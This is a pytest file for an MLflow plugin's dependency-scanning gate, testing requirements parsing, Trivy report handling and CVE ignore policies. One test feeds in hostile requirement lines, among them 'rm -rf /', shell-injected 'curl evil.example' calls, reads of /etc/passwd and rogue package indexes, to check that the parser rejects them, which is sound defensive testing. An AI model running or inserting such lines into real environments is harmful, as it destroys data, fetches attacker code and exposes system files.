"""Pure parts of the gate: requirements extraction, the report model, the policy."""

from __future__ import annotations

import json
from datetime import date

import pytest

from mlflow_tcdeploy_plugin.scan.policy import Ignore, Policy, evaluate, parse_ignore, parse_trivyignore
from mlflow_tcdeploy_plugin.scan.report import ReportError, ScanReport, parse, table
from mlflow_tcdeploy_plugin.scan.requirements import from_files

TRIVY_JSON = json.dumps(
    {
        "SchemaVersion": 2,
        "Results": [
            {
                "Target": "requirements.txt",
                "Vulnerabilities": [
                    {
                        "VulnerabilityID": "CVE-2019-10906",
                        "PkgName": "Jinja2",
                        "InstalledVersion": "2.10",
                        "FixedVersion": "2.10.1",
                        "Status": "fixed",
                        "Severity": "HIGH",
                        "Title": "sandbox escape",
                        "PrimaryURL": "https://avd/cve-2019-10906",
                    },
                    {
                        "VulnerabilityID": "CVE-2020-14343",
                        "PkgName": "pyyaml",
                        "InstalledVersion": "5.3",
                        "FixedVersion": "5.4",
                        "Status": "fixed",
                        "Severity": "CRITICAL",
                        "Title": "code execution",
                    },
                    {
                        "VulnerabilityID": "GHSA-xxxx-low",
                        "PkgName": "foo",
                        "InstalledVersion": "1",
                        "Severity": "LOW",
                        "Status": "affected",
                        "Title": "minor",
                        "References": ["https://ref/1"],
                    },
                ],
            }
        ],
    }
)


def test_requirements_txt_with_includes_options_and_unscannables() -> None:
    files = {
        "requirements.txt": "--index-url https://pypi.example/simple\nmlflow-skinny==3.17.2\nScikit_Learn==1.9.1 ; "
        'python_version >= "3.10"  # comment\n-r extra.txt\n-c missing.txt\nnumpy>=1.26\n'
        "./wheels/private-1.0-py3-none-any.whl\ngit+https://example/x.git\npkg @ https://x/p.whl\n"
        "-c constraints.txt\nscipy --hash=sha256:" + "0" * 64 + "\n",
        "extra.txt": "PyYAML==5.3\n",
        "constraints.txt": "numpy<3\n",
        ".trivyignore": "CVE-1  # not reachable\n",
        "python_env.yaml": "python: 3.11.7\n",
    }
    reqs = from_files(files)
    assert reqs.source == "requirements.txt" and reqs.python_version == "3.11.7"
    assert reqs.requirements == [
        "mlflow-skinny==3.17.2",
        'Scikit_Learn==1.9.1; python_version >= "3.10"',
        "PyYAML==5.3",
        "numpy>=1.26",
        "scipy",
    ]
    assert reqs.constraints == ["numpy<3"]
    reasons = {n.requirement: n.reason for n in reqs.not_scanned}
    assert "a model does not choose where packages come from" in reasons["--index-url https://pypi.example/simple"]
    assert reasons["-c missing.txt"] == "missing.txt is not a file of the model"
    assert reasons["./wheels/private-1.0-py3-none-any.whl"] == "a local file or directory"
    assert reasons["git+https://example/x.git"].startswith("not a valid requirement")
    assert reasons["pkg @ https://x/p.whl"] == "installed from a URL"
    assert reqs.ignore_file.startswith("CVE-1")
    assert reqs.names() == {"mlflow-skinny", "scikit-learn", "pyyaml", "numpy", "scipy"}


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("-i https://evil.example/simple", "a model does not choose"),
        ("--extra-index-url=https://evil.example/simple", "a model does not choose"),
        ("--find-links /tmp/wheels", "a model does not choose"),
        ("--trusted-host evil.example", "a model does not choose"),
        ("-e ./src", "an editable install"),
        ("--pre", "not honoured"),
        ("numpy; rm -rf /", "not a valid requirement"),
        ("numpy`id`", "not a valid requirement"),
        ("$(curl evil.example)", "not a valid requirement"),
        ("numpy==1.0 && curl evil.example", "not a valid requirement"),
        ("/etc/passwd", "a local file or directory"),
        ("file:///etc/passwd", "a local file or directory"),
        ("pkg @ file:///etc/passwd", "installed from a URL"),
    ],
)
def test_hostile_lines_never_reach_the_resolver(line: str, reason: str) -> None:
    reqs = from_files({"requirements.txt": f"pandas==2.0\n{line}\n"})
    assert reqs.requirements == ["pandas==2.0"]
    assert [(n.requirement, reason in n.reason) for n in reqs.not_scanned] == [(line, True)]


def test_huge_files_and_include_loops_are_refused_whole() -> None:
    huge = from_files({"requirements.txt": "numpy\n" * 60000})
    assert huge.requirements == [] and "larger than the" in huge.not_scanned[0].reason
    unrelated = from_files({"requirements.txt": "numpy\n", "vocab.txt": "w\n" * 200000})
    assert unrelated.requirements == ["numpy"] and unrelated.not_scanned == []
    loop = from_files({"requirements.txt": "-r a.txt\n", "a.txt": "-r a.txt\nnumpy\n"})
    assert loop.requirements == ["numpy"] and loop.not_scanned[0].reason == "a.txt includes itself"


def test_wrapped_lines_versions_read_as_text_and_lists_that_are_not_lists() -> None:
    wrapped = from_files({"requirements.txt": "numpy==2.0 \\\n    --hash=sha256:" + "a" * 64 + "\npandas\n"})
    assert wrapped.requirements == ["numpy==2.0", "pandas"] and wrapped.not_scanned == []
    assert from_files({"python_env.yaml": "python: 3.10\ndependencies: numpy\n"}).python_version == "3.10"
    assert from_files({"python_env.yaml": "python: 3.10\ndependencies: numpy\n"}).requirements == []
    conda = from_files({"conda.yaml": "dependencies:\n- python>=3.9\n- pip:\n    numpy\n"})
    assert conda.requirements == [] and conda.python_version == ""
    broken = from_files({"MLmodel": "flavors: [unclosed", "requirements.txt": "numpy\n"})
    assert broken.python_version == "" and broken.requirements == ["numpy"]


def test_conda_yaml_pip_section_and_conda_packages() -> None:
    reqs = from_files(
        {
            "conda.yaml": "channels: [conda-forge]\ndependencies:\n- python=3.11.4\n- pip<=24\n- numpy=1.26\n"
            "- pip:\n  - requests==2.19.0\n  - -r requirements-extra.txt\n"
        }
    )
    assert reqs.source == "conda.yaml" and reqs.requirements == ["requests==2.19.0"]
    assert reqs.python_version == "3.11.4"
    conda = [n.requirement for n in reqs.not_scanned if "conda package" in n.reason]
    assert conda == ["numpy=1.26"]
    assert any("requirements-extra.txt" in n.requirement for n in reqs.not_scanned)


def test_python_env_yaml_mlmodel_python_and_nothing_at_all() -> None:
    reqs = from_files(
        {
            "python_env.yaml": "python: 3.11\nbuild_dependencies: [pip]\ndependencies:\n"
            "- -r requirements.txt\n- jinja2==2.10\n"
        }
    )
    assert reqs.source == "python_env.yaml" and reqs.requirements == ["jinja2==2.10"]
    assert [n.requirement for n in reqs.not_scanned] == ["-r requirements.txt"]
    mlmodel = from_files({"MLmodel": "flavors:\n  python_function:\n    python_version: 3.10.14\n"})
    assert mlmodel.python_version == "3.10.14"
    empty = from_files({})
    assert empty.requirements == [] and "no requirements.txt" in empty.not_scanned[0].reason


def test_report_parsing_counts_and_table() -> None:
    findings = parse(TRIVY_JSON)
    assert [f.id for f in findings] == ["CVE-2020-14343", "CVE-2019-10906", "GHSA-xxxx-low"]
    report = ScanReport(findings, [], "0.59.1", "2026-11-01", "requirements.txt")
    assert report.counts() == {"CRITICAL": 1, "HIGH": 1, "MEDIUM": 0, "LOW": 1, "UNKNOWN": 0}
    text = table(findings)
    assert "CVE-2020-14343" in text and "5.3 -> 5.4" in text and "1 -> (no fix)" in text
    assert findings[2].url == "https://ref/1"
    for bad in ("not json", "[]", '{"x": 1}'):
        with pytest.raises(ReportError):
            parse(bad)


TODAY = date(2026, 11, 23)


@pytest.mark.parametrize(
    ("policy", "blocking"),
    [
        (Policy(), ["CVE-2020-14343"]),
        (Policy(fail_on="HIGH"), ["CVE-2020-14343", "CVE-2019-10906"]),
        (Policy(fail_on="LOW"), ["CVE-2020-14343", "CVE-2019-10906", "GHSA-xxxx-low"]),
        (Policy(fail_on="LOW", ignore_unfixed=True), ["CVE-2020-14343", "CVE-2019-10906"]),
        (Policy(ignore={"CVE-2020-14343": Ignore("r")}), []),
        (Policy(ignore={"CVE-2020-14343": Ignore("r", date(2026, 11, 24))}), []),
        (Policy(ignore={"CVE-2020-14343": Ignore("r", TODAY)}), ["CVE-2020-14343"]),
        (Policy(ignore={"CVE-2020-14343": Ignore("r", date(2020, 1, 1))}), ["CVE-2020-14343"]),
        (Policy(fail_on="NONE"), []),
    ],
    ids=["default", "high", "low", "unfixed", "ignored", "ignored-until-tomorrow", "expires-today", "expired", "none"],
)
def test_policy(policy: Policy, blocking: list[str]) -> None:
    report = ScanReport(parse(TRIVY_JSON), [], "v", "d", "requirements.txt")
    verdict = evaluate(policy, report, TODAY)
    assert [f.id for f in verdict.blocking] == blocking
    assert verdict.passed is (not blocking)


def test_an_expired_ignore_says_so() -> None:
    report = ScanReport(parse(TRIVY_JSON), [], "v", "d", "requirements.txt")
    verdict = evaluate(Policy(ignore={"CVE-2020-14343": Ignore("r", date(2020, 1, 1))}), report, TODAY)
    assert [(f.id, why) for f, why in verdict.lapsed] == [("CVE-2020-14343", "the ignore expired on 2020-01-01")]
    assert verdict.ignored == []


def test_ignore_lists() -> None:
    ignores = parse_trivyignore(
        "# header\nCVE-1 # why\nGHSA-a-b-c\n\nexp:2025-01-01\n"
        "CVE-2 exp:2020-01-01 # until fixed\nCVE-3 exp:2020-13-45\n"
    )
    assert ignores["CVE-1"] == Ignore("why")
    assert ignores["GHSA-a-b-c"] == Ignore("listed in the model's .trivyignore")
    assert ignores["CVE-2"] == Ignore("until fixed", date(2020, 1, 1))
    assert ignores["CVE-3"].lapsed(TODAY) == ".trivyignore's exp:2020-13-45 is not a date (YYYY-MM-DD)"
    assert "exp:2025-01-01" not in ignores
    assert parse_ignore(["CVE-1", "CVE-2: fixed upstream"])["CVE-2"] == Ignore("fixed upstream")
    assert parse_ignore({"CVE-3": "ok"}) == {"CVE-3": Ignore("ok")}
    assert parse_ignore({"CVE-4": {"reason": "vendor", "expires": "2027-01-31"}}) == {
        "CVE-4": Ignore("vendor", date(2027, 1, 31))
    }
    for bad in (["not an id!"], {"CVE-5": {"expires": "soon"}}, {"CVE-6": {"until": "2027-01-01"}}):
        with pytest.raises(ValueError):
            parse_ignore(bad)
